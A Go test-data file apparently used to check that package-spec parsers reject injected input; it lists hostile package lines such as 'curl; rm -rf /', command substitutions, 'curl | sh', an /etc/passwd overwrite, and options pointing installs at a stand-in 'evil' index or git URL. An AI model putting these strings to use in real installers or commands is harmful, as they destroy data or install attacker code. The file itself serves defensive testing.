// Package spectest holds test data about specs for the tests of several
// packages: hostile package lines, and a loopback Pip index serving
// wheels the tests make (pyindex.go). Production code must not import it.
package spectest

// HostileLines are lines that try to run shell code or smuggle options.
var HostileLines = []string{
	"curl; rm -rf /",
	"curl && touch /pwned",
	"curl || touch /pwned",
	"$(touch /pwned)",
	"`touch /pwned`",
	"curl | sh",
	"curl > /etc/passwd",
	"'; touch /pwned; '",
	`"; touch /pwned; "`,
	"curl\ntouch /pwned",
	"curl\rtouch",
	"--allow-unauthenticated",
	"-o APT::Get::AllowUnauthenticated=true",
	"--index-url=http://evil/simple",
	"-e git+https://evil/x",
	"numpy --pre",
	"${IFS}touch${IFS}/pwned",
	"curl\x00",
	"numpy==1.0 ; touch /pwned",
	"x @ https://a/b;touch${IFS}/pwned",
	"numpy[build=$(id)]",
	"conda-forge::numpy`id`",
}
